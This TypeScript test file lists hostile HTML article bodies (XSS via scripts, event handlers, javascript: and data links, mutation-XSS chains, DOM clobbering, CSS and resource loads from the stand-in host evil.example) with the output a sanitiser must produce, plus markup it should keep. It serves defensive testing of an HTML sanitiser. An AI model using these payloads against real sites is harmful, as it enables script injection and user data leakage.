/**
 * Hostile article bodies, and tame ones that must come through, with what the sanitiser makes of them. The same list runs in
 * jsdom and in a real browser. A script that runs would set `window.__ran`; nothing may be asked of `evil.example` directly.
 */
export type HostileVector = { title: string; payload: string; expected: string };

const scripts: readonly HostileVector[] = [
  {
    title: 'a script element',
    payload: '<p>a</p><script>window.__ran=1</script><p>b</p>',
    expected: '<p>a</p><p>b</p>',
  },
  {
    title: 'a script with a source',
    payload: '<script src="https://evil.example/a.js"></script>after',
    expected: 'after',
  },
  {
    title: 'a module script',
    payload: '<script type="module">import("https://evil.example/m.js")</script>',
    expected: '',
  },
  {
    title: 'a script in two halves',
    payload: '<scr<script>ipt>window.__ran=1</scr</script>ipt>',
    expected: 'ipt&gt;window.__ran=1ipt&gt;',
  },
  {
    title: 'an unclosed script swallows its rest',
    payload: '<p>a</p><script>window.__ran=1',
    expected: '<p>a</p>',
  },
  {
    title: 'a script in an SVG',
    payload: '<svg><script href="https://evil.example/s.js">window.__ran=1</script></svg>',
    expected: '',
  },
  {
    title: 'a script in MathML',
    payload: '<math><mi><script>window.__ran=1</script>x</mi></math>',
    expected: '<math><mi>x</mi></math>',
  },
  {
    title: 'import maps and speculation rules',
    payload: '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    expected: '',
  },
  {
    title: 'a script in a noscript',
    payload: '<noscript><script>window.__ran=1</script></noscript>t',
    expected: 't',
  },
];

const handlers: readonly HostileVector[] = [
  {
    title: 'onerror on a picture',
    payload: '<img src="https://img.example/a.png" onerror="window.__ran=1">',
    expected: '<img data-source="https://img.example/a.png">',
  },
  {
    title: 'onload without quotes',
    payload: '<img src=https://img.example/a.png onload=window.__ran=1>',
    expected: '<img data-source="https://img.example/a.png">',
  },
  {
    title: 'handlers in capitals',
    payload: '<div ONCLICK="window.__ran=1" OnMouseOver="window.__ran=1">t</div>',
    expected: '<div>t</div>',
  },
  {
    title: 'a handler on an unknown element',
    payload: '<x-card onclick="window.__ran=1">t</x-card>',
    expected: 't',
  },
  {
    title: 'slashes in place of spaces',
    payload: '<img/src=https://img.example/a.png/onerror=window.__ran=1>',
    expected: '<img data-source="https://img.example/a.png/onerror=window.__ran=1">',
  },
  {
    title: 'a handler on details',
    payload: '<details open ontoggle="window.__ran=1"><summary>s</summary>t</details>',
    expected: '<details open=""><summary>s</summary>t</details>',
  },
  {
    title: 'a handler on a video and its source',
    payload:
      '<video src="https://v.example/a.mp4" oncanplay="window.__ran=1"><source src="https://v.example/b.mp4" onerror="window.__ran=1"></video>',
    expected:
      '<video data-source="https://v.example/a.mp4"><source data-source="https://v.example/b.mp4"></video>',
  },
  {
    title: 'autofocus and onfocus',
    payload: '<p tabindex=0 autofocus onfocus="window.__ran=1">t</p>',
    expected: '<p>t</p>',
  },
  {
    title: 'onbegin of an animation',
    payload: '<svg><animate onbegin="window.__ran=1" attributeName=x dur=1s></animate></svg>',
    expected: '',
  },
  { title: 'a marquee', payload: '<marquee onstart="window.__ran=1">t</marquee>', expected: 't' },
  {
    title: 'a handler on the body',
    payload: '<body onload="window.__ran=1" onpageshow="window.__ran=1"><p>t</p></body>',
    expected: '<p>t</p>',
  },
  {
    title: 'a handler after a null character',
    payload: '<p on\0click="window.__ran=1" onclick\0="window.__ran=1">t</p>',
    expected: '<p>t</p>',
  },
  {
    title: 'handlers of new events',
    payload:
      '<p oncontentvisibilityautostatechange="window.__ran=1" style="content-visibility:auto" onscrollsnapchange="window.__ran=1" onbeforetoggle="window.__ran=1">t</p>',
    expected: '<p>t</p>',
  },
];

const addresses: readonly HostileVector[] = [
  { title: 'a javascript link', payload: '<a href="javascript:window.__ran=1">t</a>', expected: '<a>t</a>' },
  {
    title: 'a javascript link with a tab and a newline',
    payload: '<a href="java&#9;scr&#10;ipt:window.__ran=1">t</a>',
    expected: '<a>t</a>',
  },
  {
    title: 'a javascript link with leading control characters',
    payload: '<a href="&#1;&#32;javascript:window.__ran=1">t</a>',
    expected: '<a>t</a>',
  },
  {
    title: 'a javascript link in entities without semicolons',
    payload:
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:window.__ran=1">t</a>',
    expected: '<a>t</a>',
  },
  {
    title: 'a javascript link in capitals',
    payload: '<a href="JaVaScRiPt:window.__ran=1">t</a>',
    expected: '<a>t</a>',
  },
  {
    title: 'a data link',
    payload: '<a href="data:text/html,<script>window.__ran=1</script>">t</a>',
    expected: '<a>t</a>',
  },
  { title: 'a vbscript link', payload: '<a href="vbscript:window.__ran=1">t</a>', expected: '<a>t</a>' },
  { title: 'a blob link', payload: '<a href="blob:https://evil.example/1">t</a>', expected: '<a>t</a>' },
  { title: 'a file link', payload: '<a href="file:///etc/passwd">t</a>', expected: '<a>t</a>' },
  { title: 'a link relative to this site', payload: '<a href="/a/other">t</a>', expected: '<a>t</a>' },
  {
    title: 'a link relative to this protocol',
    payload: '<a href="//evil.example/x">t</a>',
    expected: '<a>t</a>',
  },
  {
    title: 'a link to a hash route of the app',
    payload: '<a href="#/a/other">t</a>',
    expected: '<a href="#user-content-/a/other" rel="noopener noreferrer">t</a>',
  },
  {
    title: 'a javascript link in an SVG',
    payload: '<svg><a xlink:href="javascript:window.__ran=1"><text>t</text></a></svg>',
    expected: '',
  },
  {
    title: 'a javascript link on MathML',
    payload:
      '<math href="javascript:window.__ran=1"><mi xlink:href="javascript:window.__ran=1">x</mi></math>',
    expected: '<math><mi>x</mi></math>',
  },
  {
    title: 'an area of an image map',
    payload:
      '<map name=m><area href="javascript:window.__ran=1" shape=default></map><img usemap=#m src="https://img.example/a.png">',
    expected: '<img data-source="https://img.example/a.png">',
  },
  {
    title: 'a javascript picture',
    payload: '<img src="javascript:window.__ran=1" alt="what it showed">',
    expected: 'what it showed',
  },
  {
    title: 'a javascript data-source',
    payload: '<img data-source="javascript:window.__ran=1">',
    expected: '',
  },
  {
    title: 'a data picture',
    payload: '<img src="data:image/svg+xml,<svg onload=\'window.__ran=1\'/>" alt="">',
    expected: '',
  },
  {
    title: 'a javascript embed',
    payload: '<figure data-embed="javascript:window.__ran=1"><a href="https://ok.example/">ok</a></figure>',
    expected:
      '<figure><a href="https://ok.example/" rel="noopener noreferrer" target="_blank">ok</a></figure>',
  },
  {
    title: 'an embed with credentials',
    payload: '<figure data-embed="https://user:pass@ok.example/"></figure>',
    expected: '<figure></figure>',
  },
  {
    title: 'an https-looking javascript address',
    payload: '<a href="javascript://https://ok.example/%0awindow.__ran=1">t</a>',
    expected: '<a>t</a>',
  },
  {
    title: 'a picture with credentials',
    payload: '<img src="https://user:pass@img.example/a.png" alt="secret">',
    expected: 'secret',
  },
  {
    title: 'a media path that climbs out',
    payload:
      '<img src="archive/media/../../a/1" alt="up"><img src="archive/media/%2e%2e/%2E./x" alt="up2"><img src="archive/media/..%2f..%5c" alt="">',
    expected: 'upup2',
  },
  {
    title: 'a media path with a query',
    payload: '<img src="archive/media/a.png?x#y" alt="q">',
    expected: 'q',
  },
  {
    title: 'a link with a mail address',
    payload: '<a href="mailto:a@example.com?subject=x">t</a>',
    expected: '<a href="mailto:a@example.com?subject=x" rel="noopener noreferrer">t</a>',
  },
  {
    title: 'http with backslashes',
    payload: '<img src="https:\\\\evil.example\\a.png" alt="b">',
    expected: 'b',
  },
];

const mutation: readonly HostileVector[] = [
  {
    title: 'math, mtext, table, mglyph, style',
    payload:
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__ran=1&gt;">',
    expected: '<math><mtext><table></table></mtext></math>',
  },
  {
    title: 'math, style, comment',
    payload: '<math><style><!--</style><img src=https://img.example/a.png onerror=window.__ran=1>--></math>',
    expected: '<math></math>',
  },
  {
    title: 'svg, style, attribute',
    payload: '<svg><style><img title="</style><img src=x onerror=window.__ran=1>"></style></svg>',
    expected: '',
  },
  {
    title: 'noscript, attribute',
    payload: '<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">t</p></noscript>',
    expected: '',
  },
  {
    title: 'svg, p, style',
    payload: '<svg></p><style><a id="</style><img src=1 onerror=window.__ran=1>">',
    expected: '<p></p>"&gt;',
  },
  {
    title: 'form, math, mtext',
    payload:
      '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__ran=1 src>">',
    expected: '<math><mtext></mtext></math>',
  },
  {
    title: 'template, style',
    payload: '<template><style></template><img src=x onerror=window.__ran=1>',
    expected: '',
  },
  {
    title: 'a comment with a bang',
    payload: '<!--a--!><img src=https://img.example/a.png onerror=window.__ran=1>-->',
    expected: '<img data-source="https://img.example/a.png">--&gt;',
  },
  {
    title: 'a comment that closes at once',
    payload: '<!--><img src=https://img.example/a.png onerror=window.__ran=1>-->',
    expected: '<img data-source="https://img.example/a.png">--&gt;',
  },
  {
    title: 'CDATA in SVG',
    payload: '<svg><![CDATA[</svg><img src=x onerror=window.__ran=1>]]></svg>',
    expected: '',
  },
  {
    title: 'textarea and title',
    payload:
      '<textarea><p id="</textarea><img src=x onerror=window.__ran=1>"></textarea><title><p id="</title><img src=x onerror=window.__ran=1>"></title>',
    expected: '&lt;p id=""&gt;"&gt;',
  },
  {
    title: 'xmp, iframe, noembed, plaintext',
    payload:
      '<xmp><p id="</xmp><img src=x onerror=window.__ran=1>"></xmp><noembed><img title="</noembed><img src=x onerror=window.__ran=1>"></noembed><plaintext><b>t',
    expected: '"&gt;"&gt;',
  },
  {
    title: 'annotation-xml with an integration point',
    payload:
      '<math><annotation-xml encoding="text/html"><p><script>window.__ran=1</script></p></annotation-xml><mi>x</mi></math>',
    expected: '<math><mi>x</mi></math>',
  },
  {
    title: 'a foreign object',
    payload:
      '<svg><foreignObject><p onclick="window.__ran=1">t</p><iframe srcdoc="<script>window.__ran=1</script>"></iframe></foreignObject></svg>',
    expected: '',
  },
  {
    title: 'HTML in mtext',
    payload:
      '<math><mtext><a href="javascript:window.__ran=1">t</a><img src="https://img.example/a.png" onerror="window.__ran=1"></mtext></math>',
    expected: '<math><mtext><a>t</a><img data-source="https://img.example/a.png"></mtext></math>',
  },
  {
    title: 'a processing instruction',
    payload: '<?xml-stylesheet href="javascript:window.__ran=1"?><p>t</p>',
    expected: '<p>t</p>',
  },
  {
    title: 'a shadow root',
    payload:
      '<div><template shadowrootmode=open><img src=x onerror=window.__ran=1><slot></slot></template>t</div>',
    expected: '<div>t</div>',
  },
  {
    title: 'select, template, iframe',
    payload: '<select><template><iframe src="javascript:window.__ran=1"></template></select>t',
    expected: '',
  },
  {
    title: 'a customised built-in element',
    payload: '<p is="x-p" onclick="window.__ran=1">t</p>',
    expected: '',
  },
];

const clobbering: readonly HostileVector[] = [
  {
    title: 'ids and names that the app uses',
    payload: '<p id=app></p><img name=app src="https://img.example/a.png"><p id=root>t</p>',
    expected:
      '<p id="user-content-app"></p><img data-source="https://img.example/a.png"><p id="user-content-root">t</p>',
  },
  {
    title: 'a form that shadows document methods',
    payload: '<form name=getElementById><input name=createElement></form>t',
    expected: 't',
  },
  {
    title: 'a collection of anchors',
    payload: '<a id=config></a><a id=config name=url href="https://evil.example/">t</a>',
    expected:
      '<a id="user-content-config"></a><a id="user-content-config" href="https://evil.example/" rel="noopener noreferrer" target="_blank">t</a>',
  },
  {
    title: 'an id that is every object’s property',
    payload: '<p id=__proto__>a</p><p id=constructor>b</p><p id=toString>c</p>',
    expected:
      '<p id="user-content-__proto__">a</p><p id="user-content-constructor">b</p><p id="user-content-toString">c</p>',
  },
  {
    title: 'attributes named as every object’s properties',
    payload: '<p constructor=x __proto__=y tostring=z hasownproperty=w>t</p>',
    expected: '<p>t</p>',
  },
  {
    title: 'iframe and object names',
    payload: '<iframe name=top></iframe><object name=parent></object><embed name=self>t',
    expected: 't',
  },
  { title: 'an id with spaces', payload: '<p id="a b">t</p>', expected: '<p>t</p>' },
  {
    title: 'an id that is prefixed stays',
    payload: '<p id="user-content-note">t</p><a href="#user-content-note">to</a>',
    expected: '<p id="user-content-note">t</p><a href="#user-content-note" rel="noopener noreferrer">to</a>',
  },
  {
    title: 'an inner link gets the prefix of its id',
    payload: '<a href="#note">to</a><p id=note>t</p>',
    expected: '<a href="#user-content-note" rel="noopener noreferrer">to</a><p id="user-content-note">t</p>',
  },
  {
    title: 'aria that speaks for the app',
    payload: '<p aria-labelledby=app aria-owns=app aria-hidden=true role=alert>t</p>',
    expected: '<p>t</p>',
  },
  {
    title: 'our own marks',
    payload:
      '<div data-article-body data-piece=0 data-state=ready data-image-tile data-gallery data-scroll=code>t</div>',
    expected: '<div>t</div>',
  },
  {
    title: 'a slot, a part, a popover target',
    payload:
      '<div slot=x part=y popover=manual>t</div><button popovertarget=app command=show-modal commandfor=app>b</button>',
    expected: '<div>t</div>b',
  },
];

const styles: readonly HostileVector[] = [
  {
    title: 'a style that loads',
    payload: '<p style="background:url(https://evil.example/a.gif)">t</p>',
    expected: '<p>t</p>',
  },
  {
    title: 'a style that covers the page',
    payload: '<div style="position:fixed;inset:0;z-index:9">t</div>',
    expected: '<div>t</div>',
  },
  {
    title: 'a style element',
    payload: '<style>@import "https://evil.example/a.css";*{color:red}</style><p>t</p>',
    expected: '<p>t</p>',
  },
  {
    title: 'a style element in SVG',
    payload: '<svg><style>@import "https://evil.example/a.css"</style></svg>',
    expected: '',
  },
  { title: 'a class of the app', payload: '<div class="modal overlay">t</div>', expected: '<div>t</div>' },
  {
    title: 'a link to a style sheet',
    payload: '<link rel=stylesheet href="https://evil.example/a.css">t',
    expected: 't',
  },
  {
    title: 'presentational attributes',
    payload:
      '<table background="https://evil.example/a.gif" bgcolor=red width=9999><tr><td background="https://evil.example/b.gif" height=9999>t</td></tr></table><font size=7 face=x>f</font>',
    expected: '<table><tbody><tr><td>t</td></tr></tbody></table>f',
  },
  {
    title: 'MathML lengths that leave the box',
    payload:
      '<math><mspace width="-500em"></mspace><mpadded voffset="-90em" width="-9em" lspace="-9em"><mi mathsize="900px" style="color:red" class=c>x</mi></mpadded><mspace width="1em"></mspace></math>',
    expected: '<math><mspace></mspace><mpadded><mi>x</mi></mpadded><mspace width="1em"></mspace></math>',
  },
  {
    title: 'an absurd size',
    payload:
      '<img src="https://img.example/a.png" width="999999" height="-1"><img src="https://img.example/b.png" width="100%" height="50">',
    expected:
      '<img data-source="https://img.example/a.png"><img height="50" data-source="https://img.example/b.png">',
  },
];

const requests: readonly HostileVector[] = [
  {
    title: 'a picture',
    payload: '<img src="https://evil.example/n.gif" srcset="https://evil.example/2.gif 2x" sizes=100vw>',
    expected: '<img data-source="https://evil.example/n.gif">',
  },
  {
    title: 'a picture element',
    payload:
      '<picture><source srcset="https://evil.example/a.webp 2x"><img src="https://img.example/a.png"></picture>',
    expected: '<source><img data-source="https://img.example/a.png">',
  },
  {
    title: 'a poster',
    payload:
      '<video poster="https://evil.example/p.jpg" preload=auto autoplay src="https://v.example/a.mp4"></video>',
    expected:
      '<video data-source="https://v.example/a.mp4" data-poster="https://evil.example/p.jpg"></video>',
  },
  {
    title: 'a track and an autoplaying sound',
    payload:
      '<audio autoplay preload=auto src="https://v.example/a.mp3"><track src="https://evil.example/t.vtt" default></audio>',
    expected: '<audio data-source="https://v.example/a.mp3"></audio>',
  },
  {
    title: 'preload, prefetch, preconnect',
    payload:
      '<link rel=preload as=image href="https://evil.example/a"><link rel=prefetch href="https://evil.example/b"><link rel=dns-prefetch href="//evil.example">t',
    expected: 't',
  },
  {
    title: 'an object and an embed',
    payload:
      '<object data="https://evil.example/a.pdf">fallback</object><embed src="https://evil.example/b.swf">',
    expected: 'fallback',
  },
  {
    title: 'an iframe with a document',
    payload:
      '<iframe srcdoc="<img src=\'https://evil.example/a.gif\'>"></iframe><iframe src="https://evil.example/"></iframe>t',
    expected: 't',
  },
  {
    title: 'a ping and an attribution',
    payload:
      '<a ping="https://evil.example/p" attributionsrc="https://evil.example/q" href="https://ok.example/">t</a>',
    expected: '<a href="https://ok.example/" rel="noopener noreferrer" target="_blank">t</a>',
  },
  {
    title: 'pictures of SVG',
    payload:
      '<svg><image href="https://evil.example/a.svg"/><use href="https://evil.example/b.svg#x"/><feImage href="https://evil.example/c.png"/></svg>',
    expected: '',
  },
  {
    title: 'an input of type image',
    payload: '<input type=image src="https://evil.example/a.gif">t',
    expected: 't',
  },
  {
    title: 'a manifest and a cite',
    payload:
      '<html manifest="https://evil.example/m"><blockquote cite="https://evil.example/c">t</blockquote>',
    expected: '<blockquote>t</blockquote>',
  },
  {
    title: 'lowsrc, dynsrc, longdesc, crossorigin',
    payload:
      '<img src="https://img.example/a.png" lowsrc="https://evil.example/a" dynsrc="https://evil.example/b" longdesc="https://evil.example/c" crossorigin=use-credentials fetchpriority=high referrerpolicy=unsafe-url>',
    expected: '<img data-source="https://img.example/a.png">',
  },
  {
    title: 'a MathML picture',
    payload: '<math><mglyph src="https://evil.example/a.png"></mglyph><mi>x</mi></math>',
    expected: '<math><mi>x</mi></math>',
  },
];

const navigation: readonly HostileVector[] = [
  {
    title: 'a refresh',
    payload: '<meta http-equiv=refresh content="0;url=https://evil.example/">t',
    expected: 't',
  },
  {
    title: 'a base',
    payload: '<base href="https://evil.example/" target=_top><a href="x">t</a>',
    expected: '<a>t</a>',
  },
  {
    title: 'a form',
    payload:
      '<form action="https://evil.example/" method=post><input name=user><button>send</button><select><option>one</select><textarea>area</textarea></form>',
    expected: 'sendonearea',
  },
  {
    title: 'a button with a form elsewhere',
    payload:
      '<button form=search formaction="javascript:window.__ran=1">b</button><input form=search name=q>',
    expected: 'b',
  },
  {
    title: 'a link into a named frame',
    payload: '<a href="https://ok.example/" target=_parent rel=opener>t</a>',
    expected: '<a href="https://ok.example/" rel="noopener noreferrer" target="_blank">t</a>',
  },
  {
    title: 'a download',
    payload: '<a href="https://ok.example/a.exe" download>t</a>',
    expected: '<a href="https://ok.example/a.exe" rel="noopener noreferrer" target="_blank">t</a>',
  },
  { title: 'a dialog that is open', payload: '<dialog open>t</dialog>', expected: 't' },
  {
    title: 'editable text',
    payload: '<p contenteditable accesskey=x draggable=true inert>t</p>',
    expected: '<p>t</p>',
  },
  {
    title: 'a frameset',
    payload: '<frameset><frame src="javascript:window.__ran=1"></frameset>',
    expected: '',
  },
];

const kept: readonly HostileVector[] = [
  { title: 'plain text', payload: 'Just words & <5> signs', expected: 'Just words &amp; &lt;5&gt; signs' },
  {
    title: 'a table',
    payload:
      '<table><thead><tr><th align=center scope=col>a</th></tr></thead><tbody><tr><td colspan=2 align=right>b</td></tr></tbody></table>',
    expected:
      '<table><thead><tr><th align="center" scope="col">a</th></tr></thead><tbody><tr><td colspan="2" align="right">b</td></tr></tbody></table>',
  },
  {
    title: 'code with its language',
    payload: '<pre data-language="c++"><code>a &lt; b;\n  c</code></pre>',
    expected: '<pre data-language="c++"><code>a &lt; b;\n  c</code></pre>',
  },
  {
    title: 'ruby',
    payload: '<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>',
    expected: '<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>',
  },
  {
    title: 'a formula',
    payload:
      '<math display=block><mfrac><mi>a</mi><mn>2</mn></mfrac><mo stretchy=true>=</mo><mtext>x</mtext></math>',
    expected:
      '<math display="block"><mfrac><mi>a</mi><mn>2</mn></mfrac><mo stretchy="true">=</mo><mtext>x</mtext></math>',
  },
  {
    title: 'a formula with its source',
    payload:
      '<math><semantics><mi>x</mi><annotation encoding="application/x-tex">x</annotation></semantics></math>',
    expected: '<math><mi>x</mi></math>',
  },
  {
    title: 'a figure',
    payload:
      '<figure><img src="https://img.example/a.png" alt="A hill" width=640 height=480><figcaption>Hill</figcaption></figure>',
    expected:
      '<figure><img alt="A hill" width="640" height="480" data-source="https://img.example/a.png"><figcaption>Hill</figcaption></figure>',
  },
  {
    title: 'a picture of the archive',
    payload: '<img src="archive/media/ab12.webp" width=10 height=20 alt="">',
    expected: '<img width="10" height="20" alt="" data-source="archive/media/ab12.webp">',
  },
  {
    title: 'a note and its way back',
    payload:
      '<p>t<sup id="user-content-fnref-1"><a href="#user-content-fn-1">1</a></sup></p><ol><li id="user-content-fn-1">n <a href="#user-content-fnref-1">↩</a></li></ol>',
    expected:
      '<p>t<sup id="user-content-fnref-1"><a href="#user-content-fn-1" rel="noopener noreferrer">1</a></sup></p><ol><li id="user-content-fn-1">n <a href="#user-content-fnref-1" rel="noopener noreferrer">↩</a></li></ol>',
  },
  {
    title: 'language and direction',
    payload: '<p lang=ar dir=rtl>نص</p><bdo dir=rtl>abc</bdo>',
    expected: '<p lang="ar" dir="rtl">نص</p><bdo dir="rtl">abc</bdo>',
  },
  {
    title: 'an embed',
    payload:
      '<figure data-embed="https://player.example/v/1" data-width=640 data-height=360><a href="https://player.example/v/1">player.example</a></figure>',
    expected:
      '<figure data-embed="https://player.example/v/1" data-width="640" data-height="360"><a href="https://player.example/v/1" rel="noopener noreferrer" target="_blank">player.example</a></figure>',
  },
  {
    title: 'an ordered list that counts down',
    payload: '<ol start=3 reversed type=i><li value=7>a</li></ol>',
    expected: '<ol start="3" reversed="" type="i"><li value="7">a</li></ol>',
  },
  {
    title: 'a named anchor becomes an id',
    payload: '<a name=old>t</a><a href="#old">to</a>',
    expected: '<a id="user-content-old">t</a><a href="#user-content-old" rel="noopener noreferrer">to</a>',
  },
];

export const hostileVectors: readonly HostileVector[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...mutation,
  ...clobbering,
  ...styles,
  ...requests,
  ...navigation,
];

/** What an article may hold, and keeps. */
export const tameVectors: readonly HostileVector[] = kept;
